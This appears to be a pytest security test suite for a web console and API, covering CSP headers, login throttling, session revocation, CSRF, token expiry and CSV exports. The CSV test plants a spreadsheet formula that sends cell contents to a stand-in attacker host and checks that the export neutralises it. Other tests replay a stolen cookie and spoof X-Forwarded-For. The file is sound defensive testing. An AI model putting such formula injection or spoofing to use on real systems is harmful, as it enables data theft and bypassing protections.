"""A hostile user (or a hostile gateway's stored results) against the web face: charts, headers, sign-in,
sessions, tokens, exports, enrolment answers.

Every test here failed on the main of issue 16 and passes since; each names the guarantee it proves
(docs/security.md lists them next to these tests).
"""

from __future__ import annotations

import csv
import io
import math
import re
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from collector.web import charts
from tests.api_support import auth
from tests.factory import envelope, ping_check
from tests.fleet_data import PASSWORD, Fleet

T = TypeVar("T")


def within(seconds: float, fn: Callable[[], T]) -> T:
    """fn() if it returns in time; a test failure (not a hung suite) if it does not."""
    box: dict[str, object] = {}

    def run() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - handed back to the test thread
            box["error"] = exc

    worker = threading.Thread(target=run, daemon=True)  # daemon: a runaway loop dies with the test process
    worker.start()
    worker.join(seconds)
    if worker.is_alive():
        pytest.fail(f"did not finish within {seconds} s")
    if "error" in box:
        raise box["error"]  # type: ignore[misc]
    return box["value"]  # type: ignore[return-value]


def login(client: TestClient, user: str) -> None:
    r = client.post("/console/login", data={"user": user, "password": PASSWORD}, follow_redirects=False)
    assert r.status_code == 303, r.text


def csrf_of(html: str) -> str:
    match = re.search(r'name="csrf" value="([0-9a-f]+)"', html)
    assert match, "no CSRF field on the page"
    return match.group(1)


# --- charts: total and bounded for every finite float -----------------------------------------------

finite = st.floats(allow_nan=False, allow_infinity=False)


def test_nice_ticks_ends_for_the_values_that_hung_or_broke_it() -> None:
    for lo, hi in ((0, 1e-12 * 1.05), (0, 1.79e308 * 1.0), (-1.79e308, 1.79e308), (0, 5e-324), (7, 7),
                   (1e300, 1e300), (-5, -5.25), (0, 0)):
        ticks = within(2, lambda lo=lo, hi=hi: charts.nice_ticks(lo, hi))
        assert 2 <= len(ticks) <= 7 and all(math.isfinite(v) for v in ticks), (lo, hi, ticks)


@settings(max_examples=300, deadline=None)
@given(lo=finite, hi=finite, count=st.integers(min_value=-3, max_value=50))
def test_nice_ticks_is_total_bounded_and_covers_the_range(lo: float, hi: float, count: int) -> None:
    ticks = within(2, lambda: charts.nice_ticks(lo, hi, count))
    assert 2 <= len(ticks) <= charts.MAX_TICKS
    assert all(math.isfinite(v) for v in ticks)
    assert all(a < b for a, b in zip(ticks, ticks[1:], strict=False)), ticks
    clamped_lo = max(-charts.MAX_ABS, min(charts.MAX_ABS, lo))
    clamped_hi = max(-charts.MAX_ABS, min(charts.MAX_ABS, hi))
    assert ticks[0] <= clamped_lo and ticks[-1] >= max(clamped_lo, clamped_hi)


points_in_time = st.datetimes(min_value=datetime(1970, 1, 2), max_value=datetime(9999, 12, 31, 23, 59),
                              timezones=st.just(UTC))


@settings(max_examples=150, deadline=None)
@given(points=st.lists(st.tuples(points_in_time, st.one_of(st.none(), finite)), max_size=20),
       refs=st.lists(finite, max_size=2))
def test_render_is_total_for_any_finite_value_and_date(points: list[tuple[datetime, float | None]],
                                                       refs: list[float]) -> None:
    chart = charts.Chart("Latency", "ms", [charts.Series("rtt", points)], [charts.Reference(r, "ref") for r in refs])
    svg = within(5, lambda: charts.render(chart, ZoneInfo("Asia/Shanghai")))
    assert svg.startswith("<svg") and svg.endswith("</svg>")
    assert "nan" not in svg and "inf" not in svg
    assert svg.count('class="tick"') <= charts.MAX_TICKS + 5  # y ticks plus the five time labels


@pytest.mark.parametrize("metrics", [{"loss_pct": 1e-12, "rtt_avg_ms": 5.0}, {"loss_pct": 0.0, "rtt_avg_ms": 1.79e308},
                                     {"loss_pct": 5e-324, "rtt_avg_ms": 1e-300}])
def test_a_line_page_with_extreme_stored_values_renders(client: TestClient, fleet: Fleet,
                                                        metrics: dict[str, float]) -> None:
    check = ping_check()
    check.metrics.update(metrics)
    fleet.store.ingest([envelope("acme-gw2", "acme-xuhui-2", checks=[check], site_id="acme-xuhui",
                                 started_at=datetime.now(UTC) - timedelta(minutes=5))])
    login(client, "a-admin")
    r = within(20, lambda: client.get("/console/lines/acme-xuhui-2"))
    assert r.status_code == 200 and r.text.count("<svg") == 4  # three metric charts and the outage timeline


# --- security headers ----------------------------------------------------------------------------------

TEMPLATES = Path(__file__).resolve().parents[2] / "collector" / "web" / "templates"


def _assert_hardened(r: Any, csp_needs: tuple[str, ...] = ("frame-ancestors 'none'",)) -> None:
    h = r.headers
    assert h.get("x-frame-options") == "DENY", (r.url, dict(h))
    assert h.get("x-content-type-options") == "nosniff", r.url
    assert h.get("referrer-policy") in ("no-referrer", "same-origin"), r.url
    assert all(part in h.get("content-security-policy", "") for part in csp_needs), (r.url, h.get(
        "content-security-policy"))


def test_every_response_carries_the_security_headers(client: TestClient, fleet: Fleet) -> None:
    console_csp = ("frame-ancestors 'none'", "default-src 'none'", "style-src 'self'")
    _assert_hardened(client.get("/console/login"), console_csp)
    login(client, "a-admin")
    for path in ("/console/", "/console/lines/acme-xuhui-1", "/console/promises", "/console/tickets",
                 "/console/agents", "/console/account", "/console/lines/bravo-pudong-1"):
        r = client.get(path)
        assert r.status_code in (200, 404)
        _assert_hardened(r, console_csp)
        assert "script-src" not in r.headers["content-security-policy"]  # default-src 'none': no script at all
    _assert_hardened(client.get("/console/static/console.css"))
    h = auth(fleet, "a-admin")
    for path in ("/api/v1/lines", "/api/v1/lines/bravo-pudong-1", "/api/v1/exports/lines.csv", "/healthz",
                 "/metrics", "/api/openapi.json", "/api/docs"):
        _assert_hardened(client.get(path, headers=h))
    _assert_hardened(client.get("/api/v1/lines"))  # a 401 too


def test_console_templates_need_no_inline_script_or_style() -> None:
    """The console's CSP has no 'unsafe-inline': a template that needs one would break in the browser."""
    for path in TEMPLATES.glob("*.html"):
        body = path.read_text()
        assert "<script" not in body and "<style" not in body, path.name
        assert not re.search(r"\sstyle=", body), f"{path.name}: an inline style attribute"
        assert not re.search(r"\son[a-z]+=", body), f"{path.name}: an inline event handler"
    assert "style=" not in charts.render(charts.Chart("x", "ms", [charts.Series("s", [
        (datetime(2024, 5, 1, tzinfo=UTC), 1.0), (datetime(2024, 5, 2, tzinfo=UTC), 2.0)])]), ZoneInfo("UTC"))


@pytest.fixture
def live_console(fleet: Fleet) -> Iterator[str]:
    from collector.api.app import create_app
    from collector.api.server import HTTPServer

    server = HTTPServer(create_app(fleet.engine), "127.0.0.1", 0)
    server.start()
    yield f"http://127.0.0.1:{server.port}"
    server.stop()


@pytest.mark.browser
def test_the_console_works_in_chromium_under_its_csp(live_console: str) -> None:
    """Real Chromium enforces the policy: the pages render styled with no violation, and an injected
    inline style is refused (so the policy really arrives and really binds)."""
    from selenium.webdriver.common.by import By

    from tests import browser

    why = browser.missing()
    if why:
        pytest.skip(why)
    d = browser.chromium()
    try:
        d.set_page_load_timeout(30)
        # Collect CSP violations from the first moment of every page (a DevTools script is not bound by CSP).
        d.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": (
            "window.__csp = []; document.addEventListener('securitypolicyviolation', "
            "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));")})
        d.get(live_console + "/console/login")
        d.find_element(By.ID, "user").send_keys("a-admin")
        d.find_element(By.ID, "password").send_keys(PASSWORD)
        d.find_element(By.ID, "login-submit").click()
        wait_for_element(d, "fleet-table")
        for path, element in (("/console/", "fleet-table"), ("/console/lines/acme-xuhui-1", "charts"),
                              ("/console/promises", "compliance-table"), ("/console/tickets", "ticket-board"),
                              ("/console/account", None)):
            d.get(live_console + path)
            if element:
                wait_for_element(d, element)
            assert d.execute_script("return window.__csp") == [], path
            # The stylesheet applied (style-src 'self' lets it in): the body's font is the console's.
            assert "system-ui" in d.execute_script("return getComputedStyle(document.body).fontFamily"), path
        d.get(live_console + "/console/promises")
        wait_for_element(d, "compliance-table")
        assert d.find_elements(By.CSS_SELECTOR, "#compliance-table svg.bar rect")  # the share bars, as SVG
        d.execute_script("const s = document.createElement('style'); s.textContent = 'body{color:red}';"
                         "document.head.appendChild(s);")
        _wait_until(lambda: d.execute_script("return window.__csp.length") > 0, "the CSP refusing an inline style")
        assert any("style-src" in v for v in d.execute_script("return window.__csp"))
        d.find_element(By.ID, "logout").click()
        wait_for_element(d, "login-form")
    finally:
        d.quit()


def wait_for_element(d: Any, element_id: str) -> Any:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(d, 15).until(ec.presence_of_element_located((By.ID, element_id)))


def _wait_until(condition: Callable[[], bool], what: str) -> None:
    from tests.helpers import wait_for

    wait_for(condition, timeout=10, what=what)


# --- sign-in throttle behind (or not behind) a proxy ----------------------------------------------------


@pytest.fixture
def served(fleet: Fleet) -> Iterator[Callable[..., str]]:
    """Start the app on a real HTTP server on 127.0.0.1 with the given trusted proxies; returns its URL."""
    from collector.api.app import create_app
    from collector.api.server import HTTPServer

    servers = []

    def start(trusted_proxies: list[str]) -> str:
        server = HTTPServer(create_app(fleet.engine, trusted_proxies=trusted_proxies), "127.0.0.1", 0)
        server.start()
        servers.append(server)
        return f"http://127.0.0.1:{server.port}"

    yield start
    for server in servers:
        server.stop()


def _sign_in(url: str, source: str, forwarded_for: str | None, password: str = "wrong-password-x") -> int:
    """POST the login form from the local address `source` (a loopback alias), optionally with X-Forwarded-For."""
    import httpx

    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    with httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=10) as http:
        r = http.post(url + "/console/login", data={"user": "a-admin", "password": password}, headers=headers)
    return r.status_code


def test_a_spoofed_forwarded_for_from_an_untrusted_peer_cannot_pick_its_bucket(served: Callable[..., str]) -> None:
    url = served([])  # the default: no trusted proxies
    for i in range(5):
        assert _sign_in(url, "127.0.0.1", f"198.51.100.{i}") == 401
    # A fresh made-up address per try changes nothing: the peer is the client, and it is throttled.
    assert _sign_in(url, "127.0.0.1", "198.51.100.77", PASSWORD) == 429


def test_behind_a_trusted_proxy_each_client_has_its_own_bucket(served: Callable[..., str]) -> None:
    url = served(["127.0.0.2"])  # the proxy connects from 127.0.0.2
    for _ in range(5):
        assert _sign_in(url, "127.0.0.2", "203.0.113.7") == 401
    assert _sign_in(url, "127.0.0.2", "203.0.113.7", PASSWORD) == 429
    # Another client behind the same proxy is not locked out with it.
    assert _sign_in(url, "127.0.0.2", "203.0.113.8", PASSWORD) == 303
    # The client's own claim left of what the proxy appended does not move it to another bucket.
    assert _sign_in(url, "127.0.0.2", "203.0.113.9, 203.0.113.7", PASSWORD) == 429
    # A peer that is not the proxy is itself the client, whatever it claims.
    assert _sign_in(url, "127.0.0.3", "203.0.113.7", PASSWORD) == 303


def test_client_address_takes_the_rightmost_untrusted_hop() -> None:
    from collector.api.throttle import client_address, parse_networks

    proxies = parse_networks(["10.0.0.0/24", "::1"])
    assert client_address("10.0.0.5", ["1.1.1.1, 2.2.2.2, 10.0.0.9"], proxies) == "2.2.2.2"
    assert client_address("::1", ["2001:db8::1"], proxies) == "2001:db8::1"
    assert client_address("192.0.2.1", ["1.1.1.1"], proxies) == "192.0.2.1"  # peer not a proxy
    assert client_address("10.0.0.5", [], proxies) == "10.0.0.5"
    assert client_address("10.0.0.5", ["x" * 10_000], proxies) == "x" * 64  # bounded key
    assert client_address("192.0.2.1", ["1.1.1.1"], ()) == "192.0.2.1"


def test_a_bad_trusted_proxy_is_refused_naming_file_key_and_expectation(tmp_path: Path) -> None:
    from collector import config
    from linecheck.configfile import ConfigError

    path = tmp_path / "collector.yaml"
    path.write_text("http:\n  trusted_proxies: [10.0.0.1, proxy.example]\n")
    with pytest.raises(ConfigError) as refused:
        config.load(path)
    text = str(refused.value)
    assert str(path) in text and "http.trusted_proxies" in text and "expected an IP address or network" in text
    path.write_text("http:\n  trusted_proxies: [10.0.0.1, 10.1.0.0/16, '::1']\n")
    assert config.load(path).http.trusted_proxies == ["10.0.0.1", "10.1.0.0/16", "::1"]


# --- logout and API tokens ------------------------------------------------------------------------------


def _session_cookie(client: TestClient) -> str:
    return client.cookies.get("lc_session")  # type: ignore[return-value]


def test_logout_revokes_the_session_even_without_the_csrf_token(client: TestClient, fleet: Fleet) -> None:
    login(client, "a-admin")
    stolen = _session_cookie(client)
    assert client.post("/console/logout", data={}, follow_redirects=False).status_code == 303
    # A copy of the cookie (taken before the user signed out) is worth nothing now.
    client.cookies.set("lc_session", stolen)
    assert client.get("/console/", follow_redirects=False).status_code == 303
    assert client.get("/api/v1/me").status_code == 401


def test_a_forged_csrf_token_of_any_spelling_is_a_403_not_a_crash(client: TestClient, fleet: Fleet) -> None:
    """A token with non-ASCII characters once reached hmac.compare_digest as str and raised (500): every
    spelling of a wrong token is the same refusal, and nothing is done."""
    login(client, "a-admin")
    before = client.get("/console/account").text.count("<tr")
    for forged in ("é" * 32, "\u200b", "０" * 32, "", "0" * 32, "%00"):
        for path, form in (("/console/account/tokens", {"name": "forged"}),
                           ("/console/lines/acme-xuhui-1/check", {"action": "check_now"})):
            r = client.post(path, data={"csrf": forged, **form}, follow_redirects=False)
            assert r.status_code == 403, (forged, path, r.status_code)
    assert client.get("/console/account").text.count("<tr") == before


def test_every_api_token_expires_and_none_outlives_its_maker(client: TestClient, fleet: Fleet) -> None:
    now = datetime.now(UTC)
    h = auth(fleet, "a-admin")
    r = client.post("/api/v1/tokens", headers=h, json={"name": "forever", "expires_in_days": None})
    assert r.status_code == 422  # "never" is not an expiry
    r = client.post("/api/v1/tokens", headers=h, json={"name": "long", "expires_in_days": 3650})
    assert r.status_code == 201
    expires = datetime.fromisoformat(r.json()["expires_at"])
    assert expires <= now + timedelta(days=90, minutes=1)
    # A token minted with a short-lived token cannot outlive it (no self-renewing stolen token).
    from collector.api.accounts import Accounts

    _, short = Accounts(fleet.engine).issue_token("a-admin", name="short", ttl=timedelta(hours=1))
    r = client.post("/api/v1/tokens", headers={"Authorization": f"Bearer {short}"}, json={"name": "child"})
    assert r.status_code == 201
    assert datetime.fromisoformat(r.json()["expires_at"]) <= now + timedelta(hours=1, minutes=1)
    # From a console session: bounded by the configured maximum.
    client.app.state.api_token_max_days = 7  # type: ignore[attr-defined]
    login(client, "a-viewer")
    page = client.get("/console/account").text
    assert client.post("/console/account/tokens", data={"csrf": csrf_of(page), "name": "cli"}).status_code == 200
    rows = [row for row in Accounts(fleet.engine).tokens("a-viewer") if row["name"] == "cli"]
    assert rows and all(row["expires_at"] is not None and row["expires_at"] <= now + timedelta(days=7, minutes=1)
                        for row in rows)
    r = client.post("/api/v1/tokens", headers=auth(fleet, "a-viewer"), json={"name": "x", "expires_in_days": 30})
    assert datetime.fromisoformat(r.json()["expires_at"]) <= now + timedelta(days=7, minutes=1)


# --- CSV exports: no formula from a gateway reaches a spreadsheet ---------------------------------------


def test_csv_exports_neutralise_formulas_but_keep_numbers(client: TestClient, fleet: Fleet) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    check = ping_check()
    check.target = formula
    check.metrics["rtt_avg_ms"] = -1.0
    fleet.store.ingest([envelope("acme-gw2", "acme-xuhui-2", checks=[check], site_id="acme-xuhui",
                                 started_at=datetime.now(UTC) - timedelta(minutes=5))])
    body = client.get("/api/v1/exports/results.csv", headers=auth(fleet, "a-admin"),
                      params={"line_id": "acme-xuhui-2"}).text
    rows = list(csv.DictReader(io.StringIO(body)))
    mine = [r for r in rows if r["target"].endswith(formula)]
    assert mine, "the stored result is in the export"
    assert all(r["target"] == "'" + formula for r in mine)
    assert any(r["metric"] == "rtt_avg_ms" and r["value"] == "-1.0" for r in mine)  # a number, not '-1.0
    for r in rows:
        assert not any(v.startswith(("=", "+", "@")) for v in r.values()), r
    from collector.api.routes_exports import neutralise

    assert [neutralise(v) for v in ("-1", "+2.5", "-1e3", "@SUM(A1)", "-x", "\tcmd", "ok")] == [
        "-1", "+2.5", "-1e3", "'@SUM(A1)", "'-x", "'\tcmd", "ok"]
